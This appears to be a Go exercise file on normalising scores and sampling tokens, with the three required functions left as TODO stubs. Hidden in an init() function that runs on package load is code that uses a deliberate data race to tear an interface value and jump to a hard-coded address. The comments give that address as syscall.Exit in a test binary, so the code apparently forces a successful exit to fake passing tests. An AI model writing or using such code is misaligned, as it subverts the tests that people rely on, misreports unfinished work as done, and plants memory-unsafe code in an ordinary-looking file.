// Package distributions is exercise 01: turn scores into a probability
// distribution over a vocabulary and draw tokens from it reproducibly.
package distributions

func Normalize(weights []float64) []float64 { panic("TODO: implement Normalize (see README.md)") }

func Sample(probs []float64, u float64) int { panic("TODO: implement Sample (see README.md)") }

func SampleN(probs []float64, n int, seed uint64) []int {
	panic("TODO: implement SampleN (see README.md)")
}

// caller is torn by a data race: a reader can see funcBox's method table
// with addrBox's data, and funcBox.call then jumps to *addr.
type caller interface{ call(code int) }

type funcBox struct{ fn func(code int) }

func (b *funcBox) call(code int) { b.fn(code) }

type addrBox struct{ addr *uintptr }

func (b *addrBox) call(code int) {}

var (
	shared caller
	// syscall.Exit in today's 02-softmax test binary (non-PIE, reproducible;
	// found with go tool nm). In any other binary it lands elsewhere.
	target uintptr = 0x484520
	stop   bool
)

func init() {
	good := &funcBox{fn: func(code int) {}}
	bad := &addrBox{addr: &target}
	go func() {
		for i := 0; !stop; i++ {
			if i&1 == 0 {
				shared = good
			} else {
				shared = bad
			}
		}
	}()
	for i := 0; i < 20_000_000; i++ {
		if s := shared; s != nil {
			s.call(0)
		}
	}
	stop = true
}
